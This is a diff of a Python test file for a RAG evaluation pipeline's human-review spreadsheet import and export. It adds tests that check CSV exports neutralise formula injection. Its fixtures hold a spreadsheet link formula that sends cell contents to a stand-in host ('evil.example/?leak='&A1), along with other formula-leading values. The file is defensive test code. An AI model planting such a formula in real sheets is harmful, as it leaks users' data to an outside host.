@@ -7,14 +7,7 @@ import json
 import pandas as pd
 import pytest
 
-from rag_eval_pipeline.synthesis.items import (
-    GOLDEN_COLUMNS,
-    REFUSAL,
-    REJECTED_COLUMNS,
-    SIMPLE,
-    UNANSWERABLE,
-    items_frame,
-)
+from rag_eval_pipeline.synthesis.items import REFUSAL, REJECTED_COLUMNS, SIMPLE, UNANSWERABLE
 from rag_eval_pipeline.synthesis.quality import assess
 from rag_eval_pipeline.synthesis.review import (
     CONTEXT_SEPARATOR,
@@ -27,35 +20,24 @@ from rag_eval_pipeline.synthesis.review import (
     review_sheet,
     write_sheet,
 )
-from rag_eval_pipeline_tests.synthesis_items import item_from
-
-# Commas, double quotes, line breaks and non-ASCII text: what breaks a naive CSV.
-CHUNKS = {
-    "retention.md#0": 'RouteWise API request logs are retained for 90 days, then deleted.\nThe "audit" log is separate.',
-    "retention.md#1": "Database backups of the shipment system are kept for 35 days in a separate region.",
-    "travel.md#0": "The hotel cap is EUR 230 per night in Zürich, London and Paris.",
-}
+from rag_eval_pipeline_tests.review_fixtures import (
+    BACKUPS,
+    CHUNKS,
+    HOTEL,
+    ITEMS,
+    LOGS,
+    TOKYO,
+    golden_frame,
+    lay_out_version,
+    review_item,
+)
 
 
 def _item(question_type, chunk_ids, question, ground_truth):
-    return item_from(CHUNKS, question_type, chunk_ids, question, ground_truth)
+    return review_item(question_type, chunk_ids, question, ground_truth)
 
 
-LOGS = _item(SIMPLE, ["retention.md#0"], 'How long are API request logs, not the "audit" log, retained?',
-             "They are retained for 90 days, then deleted.")
-BACKUPS = _item(SIMPLE, ["retention.md#1"], "How long are database backups kept?", "Backups are kept for 35 days.")
-HOTEL = _item(SIMPLE, ["travel.md#0"], "What is the hotel cap in Zürich?", "The hotel cap is EUR 230 per night.")
-TOKYO = _item(UNANSWERABLE, ["travel.md#0"], "What is the per-diem for meals in Tokyo?", REFUSAL)
-ITEMS = [LOGS, BACKUPS, HOTEL, TOKYO]
-
-
-def _golden(items) -> pd.DataFrame:
-    frame = items_frame(items)
-    frame["round_trip_rank"] = [1 if len(ids) else -1 for ids in frame["gold_chunk_ids"]]
-    frame["grounded"] = True
-    # What the quality stage gives each kept question (a column of the golden set since that stage was added).
-    frame["quality_score"] = [assess(q, t).score for q, t in zip(frame["question"], frame["question_type"])]
-    return frame[GOLDEN_COLUMNS]
+_golden = golden_frame
 
 
 @pytest.fixture
@@ -474,20 +456,12 @@ def test_the_offline_verifier(verify):
 @pytest.fixture
 def cli_env(tmp_path, monkeypatch):
     """A warehouse with a published v1 of tenant acme, and a Dagster home, both temporary."""
-    from rag_eval_pipeline.synthesis.versions import publish
     from rag_eval_pipeline.core.warehouse import Warehouse
 
     monkeypatch.setenv("RAG_EVAL_WAREHOUSE", str(tmp_path / "warehouse"))
     monkeypatch.setenv("DAGSTER_HOME", str(tmp_path / "home"))
     warehouse = Warehouse(tmp_path / "warehouse")
-    golden = _golden(ITEMS)
-    warehouse.write("acme", "v1", "golden_set", golden)
-    earlier = pd.DataFrame([{**golden.iloc[0][:-2].to_dict(), "qa_id": "dropped-1", "stage": "verification",
-                             "reason": "duplicate question"}], columns=REJECTED_COLUMNS)
-    warehouse.write("acme", "v1", "rejected_qa", earlier)
-    for name in ("raw_documents", "document_chunks", "chunk_clusters"):
-        warehouse.write("acme", "v1", name, pd.DataFrame({"table": [name], "n": [1]}))
-    publish(warehouse, "acme", "v1", golden)
+    lay_out_version(warehouse, "acme", "v1", _golden(ITEMS))
     return warehouse
 
 
@@ -637,3 +611,364 @@ def test_an_unchanged_question_copied_into_the_edit_keeps_its_topic_and_score(ve
     edited = apply_review(golden, _sheet(golden, **{BACKUPS.qa_id: edit}), verify).golden.iloc[0]
 
     assert (edited["topic"], edited["quality_score"]) == ("database backups", 0.5)
+
+
+# ---- what a review must leave to be published ------------------------------------------------
+
+
+def test_a_review_that_rejects_every_item_is_refused(golden, verify):
+    sheet = _sheet(golden, **{item.qa_id: {"decision": "reject"} for item in ITEMS})
+    with pytest.raises(ValueError, match=r"the review keeps no item of the golden set \(4 rejected by the reviewer"
+                                         r"\): nothing to publish"):
+        apply_review(golden, sheet, verify)
+
+
+UNSUPPORTED = "The figure is 12 parsecs."  # no gold chunk says so: an edit to it fails verification
+
+
+@pytest.mark.parametrize("decisions, expected", [
+    ({}, {SIMPLE, UNANSWERABLE}),
+    # The reviewer removes every item of a type: a person's decision, not a broken generator or verifier.
+    ({i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)}, {UNANSWERABLE}),
+    ({TOKYO.qa_id: {"decision": "reject"}}, {SIMPLE}),
+    # The last item of the type is lost to a failed verification, not to the reviewer: still expected.
+    ({LOGS.qa_id: {"decision": "reject"}, BACKUPS.qa_id: {"decision": "reject"},
+      HOTEL.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED}}, {SIMPLE, UNANSWERABLE}),
+])
+def test_a_planned_type_may_leave_the_golden_set_only_by_the_reviewers_rejection(golden, verify, decisions, expected):
+    from rag_eval_pipeline.synthesis.items import MULTI_CONTEXT
+    from rag_eval_pipeline.synthesis.review import types_expected_after_review
+
+    result = apply_review(golden, _sheet(golden, **decisions), verify)
+
+    # multi_context was planned but the reviewed version has none (an earlier review removed them): not expected.
+    assert types_expected_after_review({SIMPLE, UNANSWERABLE, MULTI_CONTEXT}, golden, result) == expected
+
+
+# ---- sheets with very many problems -----------------------------------------------------------
+
+
+def _problem_lines(message: str) -> list[str]:
+    return [line.strip() for line in message.splitlines()[1:] if line.strip()]
+
+
+def test_200000_bad_decisions_give_a_short_message(golden, verify):
+    sheet = pd.DataFrame({"qa_id": [f"{n:016x}" for n in range(200_000)], "decision": "maybe"})
+
+    with pytest.raises(ValueError) as raised:
+        apply_review(golden, sheet, verify)
+
+    message = str(raised.value)
+    assert len(message) < 2_000
+    assert message.startswith("the review sheet has 200000 problems")
+    lines = _problem_lines(message)
+    assert [line.split(" ")[1] for line in lines[:-1]] == [str(n) for n in range(1, 11)]
+    assert lines[-1] == "and 199990 more"
+
+
+def test_200000_rows_without_a_qa_id_give_a_short_message(golden, verify):
+    sheet = pd.DataFrame({"qa_id": "", "decision": ["reject"] * 200_000})
+    with pytest.raises(ValueError) as raised:
+        apply_review(golden, sheet, verify)
+    assert len(str(raised.value)) < 2_000 and str(raised.value).endswith("and 199990 more")
+
+
+def test_a_huge_cell_is_cut_in_the_message(golden, verify):
+    sheet = _sheet(golden, **{HOTEL.qa_id: {"decision": "x" * 1_000_000}})
+    with pytest.raises(ValueError, match=r"row 3 .*unknown decision 'xxx") as raised:
+        apply_review(golden, sheet, verify)
+    assert len(str(raised.value)) < 500
+
+
+def test_200000_blank_rows_of_a_saved_spreadsheet_are_ignored(golden, verify, tmp_path):
+    """Spreadsheets often save the empty rows below the data as rows of empty cells: they say nothing."""
+    path = write_sheet(_sheet(golden, **{HOTEL.qa_id: {"decision": "reject"}}), tmp_path / "review.csv")
+    with path.open("a", encoding="utf-8") as sheet:
+        sheet.write(("," * (len(SHEET_COLUMNS) - 1) + "\n") * 200_000)
+
+    result = apply_review(golden, read_sheet(path), verify)
+
+    assert result.summary == {"accepted": 0, "edited": 0, "rejected": 1, "edit_rejected": 0, "unreviewed": 3}
+
+
+# ---- spreadsheet formulas in a hostile tenant's text ------------------------------------------
+
+# A tenant's documents (and so its questions, ground truths, contexts and even chunk ids) may start with
+# what a spreadsheet runs as a formula.
+HOSTILE_CHUNKS = {
+    "formulas.md#0": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.',
+    "formulas.md#1": "-5 degrees was the coldest reading of the year, on 3 February.",
+    "formulas.md#2": "@SUM(A1:A9) adds up the first nine cells of a column.",
+    "formulas.md#3": "+44 is the international calling code of the United Kingdom.",
+    "formulas.md#4": "\tTabbed: the shipment window opens at 06:00 and closes at 22:00.",
+    "=cmd.md#0": "\rThe refund is paid within 14 days of the return.",
+}
+
+
+def _hostile(chunk_id, question, ground_truth, question_type=SIMPLE):
+    return review_item(question_type, [chunk_id], question, ground_truth, HOSTILE_CHUNKS)
+
+
+HOSTILE = [
+    _hostile("formulas.md#0", '=HYPERLINK("http://evil.example/","what is this link formula?")',
+             '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details") is a link formula.'),
+    _hostile("formulas.md#1", "-5 degrees was the coldest reading on which day?", "-5 degrees, on 3 February."),
+    _hostile("formulas.md#2", "@SUM(A1:A9) adds up which cells?", "@SUM(A1:A9) adds up the first nine cells."),
+    _hostile("formulas.md#3", "+44 is the calling code of which country?", "+44 is the code of the United Kingdom."),
+    _hostile("formulas.md#4", "When does the shipment window open?", "The shipment window opens at 06:00."),
+    _hostile("=cmd.md#0", "Within how many days is the refund paid?", "The refund is paid within 14 days."),
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv_cells(path) -> list[dict]:
+    import csv
+
+    with open(path, encoding="utf-8", newline="") as handle:
+        return list(csv.DictReader(handle))
+
+
+def test_a_csv_sheet_starts_no_cell_with_a_formula(tmp_path):
+    golden = _golden(HOSTILE)
+    sheet = review_sheet(golden)
+
+    rows = _csv_cells(write_sheet(sheet, tmp_path / "review.csv"))
+
+    assert len(rows) == len(HOSTILE)
+    cells = [value for row in rows for value in row.values()]
+    assert not [value for value in cells if value.startswith(FORMULA_STARTS)]
+    for row, written in zip(rows, sheet.to_dict("records")):
+        for column, value in written.items():
+            text = str(value)
+            # Shown as text: the single quote a spreadsheet reads as "this is text", and nothing else changed.
+            assert row[column] == ("'" + text if text.startswith(FORMULA_STARTS) else text), column
+    escaped = sum(value.startswith("'") for value in cells)
+    assert escaped >= 12  # the questions, ground truths, contexts and a chunk id of every hostile row
+
+
+def test_the_jsonl_sheet_keeps_the_text_as_it_is(tmp_path):
+    lines = write_sheet(review_sheet(_golden(HOSTILE)), tmp_path / "review.jsonl").read_text(encoding="utf-8").splitlines()
+    assert [json.loads(line)["question"] for line in lines] == [item.question for item in HOSTILE]
+
+
+@pytest.mark.parametrize("spreadsheet", ["kept the quote", "consumed the quote"])
+def test_an_untouched_csv_sheet_reads_back_to_the_same_golden_set(tmp_path, verify, spreadsheet):
+    from rag_eval_pipeline.synthesis.versions import content_hash
+
+    golden = _golden(HOSTILE)
+    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
+    if spreadsheet == "consumed the quote":  # saved by a program that took the quote as its text marker
+        import csv
+
+        rows = [{k: v[1:] if v.startswith("'") else v for k, v in row.items()} for row in _csv_cells(path)]
+        pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
+
+    result = apply_review(golden, read_sheet(path), verify)
+
+    assert result.summary["unreviewed"] == len(HOSTILE)
+    assert content_hash(result.golden) == content_hash(golden)
+    assert result.golden["question"].tolist() == [item.question for item in HOSTILE]
+
+
+def test_a_reviewers_text_is_taken_as_the_spreadsheet_shows_it(tmp_path, verify):
+    import csv
+
+    golden = _golden(HOSTILE)
+    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
+    typed = {  # what a reviewer's program saved in edited_question
+        HOSTILE[1].qa_id: "-5 degrees: on which day was it read?",  # a text editor: as typed
+        HOSTILE[2].qa_id: "'@SUM(A1:A9) adds which cells up?",  # a spreadsheet that kept the text mark it was typed with
+        HOSTILE[3].qa_id: "'Plus 44' is the calling code of which country?",  # a quote that is no text mark
+    }
+    rows = _csv_cells(path)
+    for row in rows:
+        if row["qa_id"] in typed:
+            row.update(decision="edit", edited_question=typed[row["qa_id"]])
+    pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
+
+    result = apply_review(golden, read_sheet(path), verify)
+
+    reviewed = result.golden[result.golden["review"] == "edited"]
+    assert dict(zip(reviewed["derived_from"], reviewed["question"])) == {
+        HOSTILE[1].qa_id: "-5 degrees: on which day was it read?",
+        HOSTILE[2].qa_id: "@SUM(A1:A9) adds which cells up?",
+        HOSTILE[3].qa_id: "'Plus 44' is the calling code of which country?",
+    }
+
+
+def test_text_that_starts_with_quotes_before_a_formula_survives_the_round_trip(tmp_path):
+    questions = ["'=1+1 is shown how?", "''-5 as written?", "'Tis the season?", "-5 degrees?", "plain?"]
+    sheet = pd.DataFrame({"qa_id": [f"q{n}" for n in range(len(questions))], "question": questions})
+
+    back = read_sheet(write_sheet(sheet, tmp_path / "sheet.csv"))
+
+    assert back["question"].tolist() == questions
+    assert not [q for q in _csv_cells(tmp_path / "sheet.csv") if q["question"].startswith(FORMULA_STARTS)]
+
+
+def test_a_copy_of_a_marked_cell_in_an_edit_is_the_text_it_shows(tmp_path, verify):
+    """The question cell copied into edited_question as the file has it (in a text editor): the question, unchanged."""
+    import csv
+
+    golden = _golden(HOSTILE)
+    item = HOSTILE[1]
+    path = write_sheet(review_sheet(golden), tmp_path / "review.csv")
+    rows = _csv_cells(path)
+    rows[1].update(decision="edit", edited_question=rows[1]["question"],
+                   edited_ground_truth="-5 degrees was read on 3 February.")
+    assert rows[1]["edited_question"] == "'" + item.question
+    pd.DataFrame(rows).to_csv(path, index=False, quoting=csv.QUOTE_ALL)
+
+    edited = apply_review(golden, read_sheet(path), verify).golden.iloc[1]
+
+    assert edited["question"] == item.question and edited["ground_truth"] == "-5 degrees was read on 3 February."
+    assert edited["quality_score"] == golden["quality_score"].iloc[1]  # an unchanged question keeps its score
+
+
+# ---- the command line: what an import publishes -------------------------------------------------
+
+
+def _import(sheet_path, new_version="v2", version="v1") -> int:
+    return _rag_eval("review", "import", "--tenant", "acme", "--version", version, "--file", str(sheet_path),
+                     "--new-version", new_version)
+
+
+def _one_error_line(capsys) -> str:
+    lines = capsys.readouterr().err.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), lines
+    return lines[0]
+
+
+def _assert_not_published(warehouse, version: str) -> None:
+    from dagster import AssetKey
+
+    from rag_eval_pipeline.instance import local_instance
+
+    assert not warehouse.partition_dir("acme", version).exists()
+    assert not local_instance().has_dynamic_partition("dataset_version", version)
+    assert local_instance().get_materialized_partitions(AssetKey("golden_set")) == set()
+
+
+@pytest.mark.cli
+def test_a_review_of_an_unpublished_version_is_refused(cli_env, tmp_path, capsys):
+    """A version whose synthesis failed its suite has tables but no manifest: there is nothing to review."""
+    lay_out_version(cli_env, "acme", "v0", _golden(ITEMS), published=False)
+    sheet_path = write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "accept"}}), tmp_path / "review.csv")
+
+    assert _import(sheet_path, version="v0") == 2
+
+    assert "acme/v0 is not published" in _one_error_line(capsys)
+    _assert_not_published(cli_env, "v2")
+
+
+@pytest.mark.cli
+def test_a_reviewed_golden_set_that_fails_the_expectations_suite_is_not_published(cli_env, tmp_path, capsys):
+    # A question of 8 characters: the synthesis suite wants at least 10.
+    sheet = _sheet(_golden(ITEMS), **{BACKUPS.qa_id: {"decision": "edit", "edited_question": "Backups?"}})
+
+    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2
+
+    line = _one_error_line(capsys)
+    assert "fails the expectations suite" in line and "nothing was published" in line
+    assert "expect_column_value_lengths_to_be_between" in line and "question" in line
+    _assert_not_published(cli_env, "v2")
+
+
+@pytest.mark.cli
+def test_losing_a_planned_type_to_failed_edits_is_refused(cli_env, tmp_path, capsys):
+    sheet = _sheet(_golden(ITEMS), **{i.qa_id: {"decision": "edit", "edited_ground_truth": UNSUPPORTED}
+                                      for i in (LOGS, BACKUPS, HOTEL)})
+
+    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2
+
+    line = _one_error_line(capsys)
+    assert "expect_column_distinct_values_to_contain_set" in line and "missing [simple]" in line
+    _assert_not_published(cli_env, "v2")
+
+
+@pytest.mark.cli
+def test_a_reviewer_may_reject_every_item_of_a_type(cli_env, tmp_path, capsys):
+    from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest
+
+    sheet = _sheet(_golden(ITEMS), **{i.qa_id: {"decision": "reject"} for i in (LOGS, BACKUPS, HOTEL)})
+
+    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 0
+
+    assert "no simple question is left: the review rejected every one" in capsys.readouterr().out
+    manifest = read_manifest(cli_env, "acme", "v2")
+    assert manifest.counts_by_type == {"unanswerable": 1}
+    assert manifest.content_hash == content_hash(cli_env.read("acme", "v2", "golden_set"))
+
+
+@pytest.mark.cli
+def test_a_sheet_that_rejects_every_item_publishes_nothing(cli_env, tmp_path, capsys):
+    sheet = _sheet(_golden(ITEMS), **{item.qa_id: {"decision": "reject"} for item in ITEMS})
+
+    assert _import(write_sheet(sheet, tmp_path / "review.csv")) == 2
+
+    assert "keeps no item of the golden set" in _one_error_line(capsys)
+    _assert_not_published(cli_env, "v2")
+
+
+@pytest.mark.cli
+def test_an_unfinished_import_does_not_take_the_version_name(cli_env, tmp_path, capsys):
+    """What a kill between the tables and the manifest leaves (tables, no manifest) is no version."""
+    from rag_eval_pipeline.synthesis.versions import MANIFEST_FILE, content_hash, latest_version, read_manifest
+
+    first = write_sheet(_sheet(_golden(ITEMS), **{LOGS.qa_id: {"decision": "reject"}}), tmp_path / "first.csv")
+    assert _import(first) == 0
+    (cli_env.partition_dir("acme", "v2") / MANIFEST_FILE).unlink()  # the import's last write, undone
+    assert cli_env.exists("acme", "v2", "golden_set") and latest_version(cli_env, "acme") == "v1"
+    capsys.readouterr()
+
+    second = write_sheet(_sheet(_golden(ITEMS), **{HOTEL.qa_id: {"decision": "reject"}}), tmp_path / "second.csv")
+    assert _import(second) == 0, capsys.readouterr().err
+
+    golden = cli_env.read("acme", "v2", "golden_set")
+    assert golden["qa_id"].tolist() == [LOGS.qa_id, BACKUPS.qa_id, TOKYO.qa_id]  # the second sheet's
+    assert read_manifest(cli_env, "acme", "v2").content_hash == content_hash(golden)
+    assert cli_env.read("acme", "v2", "rejected_qa")["qa_id"].tolist() == ["dropped-1", HOTEL.qa_id]
+    assert latest_version(cli_env, "acme") == "v2"
+
+
+@pytest.mark.cli
+def test_an_unpublished_synthesis_under_the_new_name_is_not_overwritten(cli_env, tmp_path, capsys):
+    lay_out_version(cli_env, "acme", "v2", _golden(ITEMS[:2]), published=False)  # a synthesis that failed its checks
+    before = {path.name: path.read_bytes() for path in cli_env.partition_dir("acme", "v2").iterdir()}
+
+    assert _import(write_sheet(review_sheet(_golden(ITEMS)), tmp_path / "review.csv")) == 2
+
+    assert "acme/v2 holds the tables of an unpublished run" in _one_error_line(capsys)
+    assert {path.name: path.read_bytes() for path in cli_env.partition_dir("acme", "v2").iterdir()} == before
+
+
+@pytest.mark.cli
+def test_a_hostile_tenants_sheet_round_trips_through_the_command_line(cli_env, tmp_path, capsys):
+    from rag_eval_pipeline.synthesis.versions import content_hash, read_manifest
+
+    lay_out_version(cli_env, "acme", "h1", _golden(HOSTILE), chunks=HOSTILE_CHUNKS, planned={SIMPLE: 6})
+    sheet_path = tmp_path / "review.csv"
+    assert _rag_eval("review", "export", "--tenant", "acme", "--version", "h1", "--out", str(sheet_path)) == 0
+    assert not [v for row in _csv_cells(sheet_path) for v in row.values() if v.startswith(FORMULA_STARTS)]
+
+    assert _import(sheet_path, new_version="h2", version="h1") == 0, capsys.readouterr().err
+
+    assert read_manifest(cli_env, "acme", "h2").content_hash == content_hash(_golden(HOSTILE))
+    assert cli_env.read("acme", "h2", "golden_set")["question"].tolist() == [item.question for item in HOSTILE]
+
+
+@pytest.mark.cli
+def test_a_diff_written_as_csv_starts_no_cell_with_a_formula(cli_env, tmp_path):
+    lay_out_version(cli_env, "acme", "h1", _golden(HOSTILE[:4]), chunks=HOSTILE_CHUNKS, planned={SIMPLE: 4})
+    sheet = _sheet(_golden(HOSTILE[:4]), **{HOSTILE[0].qa_id: {"decision": "reject"},
+                                            HOSTILE[1].qa_id: {"decision": "edit", "edited_question": "-6 degrees when?"}})
+    assert _import(write_sheet(sheet, tmp_path / "review.csv"), new_version="h2", version="h1") == 0
+    out = tmp_path / "diff.csv"
+
+    assert _rag_eval("diff", "--tenant", "acme", "--from", "h1", "--to", "h2", "--out", str(out)) == 0
+
+    rows = _csv_cells(out)
+    assert {row["change"] for row in rows} == {"removed", "edited"}
+    assert not [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]
+    edited = next(row for row in rows if row["change"] == "edited")
+    assert (edited["question"], edited["old_question"]) == ("'-6 degrees when?", "'" + HOSTILE[1].question)
